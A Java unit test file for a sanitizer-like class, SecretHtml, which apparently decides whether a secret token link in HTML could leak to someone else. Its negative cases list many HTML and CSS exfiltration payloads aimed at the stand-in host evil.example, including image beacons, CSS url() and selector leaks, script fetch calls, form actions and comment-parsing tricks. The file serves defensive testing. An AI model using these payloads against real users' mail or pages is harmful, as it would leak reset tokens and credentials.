package io.ostiary.html;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SecretHtmlTest {
    private static final String LINK = "https://example.com/?token=abc";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "URL",
                "<p>Go to URL now</p>",
                "<a href=\"URL\">here</a>",
                "<A class=x HREF='URL'>URL</A>",
                "<a href=URL>here</a>",
                "<!DOCTYPE html><html><head><style>p { top: 0 }</style></head><body><img src=\"logo.png\">URL</body></html>",
                "<!-- a comment --><p title='a > b'>URL</p>",
                "1 < 2 and <3: URL",
                "<br/>URL",
                "<table><tr><td>Link:</td><td>URL</td></tr></table>",
                "<!--[if mso]><table><tr><td><![endif]-->URL<!--[if mso]></td></tr></table><![endif]-->",
                "<meta http-equiv=Content-Type content='text/html; charset=utf-8'>URL",
                "<a href=\"URL\">Reset"
            })
    void aLinkStandsWellInTextAndAsTheAddressOfAnAnchor(String html) {
        assertThat(isSafe(html)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src=\"https://evil.example/?URL\">",
                "<img src='URL'>",
                "<img alt=\">\" src=\"https://evil.example/?URL\">",
                "<img src=https://evil.example/?URL>",
                "<img src='https://evil.example/?\n<p>URL</p>",
                "<img src = \"https://evil.example/?URL\">",
                "<img src=\"https://evil.example/?URL",
                "<a href=\"https://evil.example/?URL\">here</a>",
                "<a href=\"URL\" ping=\"https://evil.example/\">here</a>",
                "<area href=\"URL\">",
                "<p style=\"background: url(https://evil.example/?URL)\">x</p>",
                "<style>p { background: url(https://evil.example/?URL) }</style>",
                "<STYLE>p { background: url(https://evil.example/?URL) }",
                "<script>fetch('https://evil.example/?URL')</script>",
                "<form action=https://evil.example/><input value=\"URL\"></form>",
                "<!--><img src=\"https://evil.example/?-->URL\">",
                "<!-- --!><img src=\"https://evil.example/?-->URL\">",
                "<!-- URL -->",
                "<svg><style><image href=\"https://evil.example/?</style>URL\"></svg>",
                "<x URL>",
                "<xURL>",
                "<?xml URL?>",
                "<title><!--</title><img src=\"https://evil.example/?-->URL\">",
                "<textarea><!--</textarea><img src=\"https://evil.example/?-->URL\">",
                "<iframe><!--</iframe><img src=\"https://evil.example/?-->URL\">",
                "<noembed><!--</noembed><img src=\"https://evil.example/?-->URL\">",
                "<xmp><!--</xmp><img src=\"https://evil.example/?-->URL\">",
                "</ x=\"><img src='https://evil.example/?\" >URL'>",
                "<style></stylex><!--</style><img src=\"https://evil.example/?-->URL\">",
                "<style></\u017ftyle><!--</style><img src=\"https://evil.example/?-->URL\">",
                "<script><!--<script></script><img src=\"https://evil.example/?--></script>URL\">",
                "<form action=https://evil.example><textarea name=t>URL</textarea><button>Go</button></form>",
                "<form action=https://evil.example><button>Go</button></form>URL",
                "<textarea>URL</textarea>",
                "<title>URL</title>",
                "<p title=\"URL\">URL</p>",
                "</p title=\"URL\">URL",
                "<a href=\"https://evil.example\" href=\"URL\">x</a>URL",
                "<p onclick=\"go()\">URL</p>",
                "<svg></svg>URL",
                "<base href=\"https://evil.example/\">URL",
                "<meta http-equiv=refresh content=\"9; https://evil.example/\">URL",
                "<link rel=stylesheet href=\"https://evil.example/\">URL",
                "<style>@import url(https://evil.example/);</style>URL",
                "<style>@font-face { src: url(https://evil.example/a); unicode-range: U+61 }</style>URL",
                "<style>a[href*=a] { background: url(https://evil.example/a) }</style><a href=\"URL\">x</a>",
                "<style>a[\\68ref*=a] { background: url(https://evil.example/a) }</style><a href=\"URL\">x</a>",
                "<!--[if mso]><img src=\"https://evil.example/?<![endif]-->URL\">",
                "<!--[if mso]>commentend<img src=\"https://evil.example/?<![endif]-->URL",
                "<!--[if mso]><form action=https://evil.example><![endif]-->URL",
                "<!--[if mso]><!--<![endif]--><img src=\"https://evil.example/?-->URL\">",
                "<img src=\"https://evil.example/?<![if !mso]>\"><![endif]>URL\">",
                "<![CDATA[ > <img src=\"https://evil.example/?]]>URL\">",
                "<style/><a title=\"</style><img src='https://evil.example/?\">URL'>",
                "<title/><a title=\"</title><img src='https://evil.example/?\">URL'>",
                "<title><b>URL",
                "https://evil.example/?URL",
                "https://evil.example/?<b>URL</b>",
                "evil.example?u=&#8203;URL"
            })
    void anywhereElseItCouldBeSentToSomebody(String html) {
        assertThat(isSafe(html)).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<",
                "<a ",
                "<a href=",
                "<a href=\"",
                "<!--",
                "<style>",
                "</",
                "=",
                "<a =",
                "<!",
                "<a/",
                "<!---->",
                "<b>",
                "<a><p>",
                "<a href=\"x\">",
                "<table>",
                "<!a",
                "<!--<",
                "<title>",
                "<select>",
                "<div><p>",
                "<font a=b>",
                "<p><font>",
                "</p>",
                "&"
            })
    @Timeout(20)
    void longTextEndsWhateverItRepeats(String part) {
        var html = new SecretHtml(part.repeat(50_000 / part.length()));

        assertThat(html.problem(LINK)).isNotEqualTo(LINK);
        assertThat(html.tells(LINK)).isFalse();
    }

    @Test
    void whoSeesOnlyTextIsToldTheLinkToo() {
        assertThat(new SecretHtml("<p>" + LINK + "</p>").tells(LINK)).isTrue();
        assertThat(new SecretHtml("<a data-href='https://acme.example' href='" + LINK + "'>x</a>").tells(LINK))
                .isTrue();
        assertThat(new SecretHtml("<a href='" + LINK + "'>Reset").tells(LINK)).isTrue();
        assertThat(new SecretHtml("<title>" + LINK + "</title>").tells(LINK)).isFalse();
        assertThat(new SecretHtml("<p>Hello</p>").tells(LINK)).isFalse();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "<p>a <b>b</b></p> ~ <p>a <b>b</b></p>",
                "<p title='x>y'>a < b ~ <p title=\"x&gt;y\">a &lt; b</p>",
                "<!doctype html><title>x</title>y ~ <!doctype html><html><head><title>x</title></head><body>y</body></html>"
            })
    void whatIsSentIsReadInOneWay(String html, String normal) {
        assertThat(SecretHtml.normal(html)).isEqualTo(normal);
        assertThat(SecretHtml.normal(normal)).isEqualTo(normal);
    }

    private static boolean isSafe(String html) {
        return new SecretHtml(html.replace("URL", LINK)).problem(LINK) == null;
    }
}
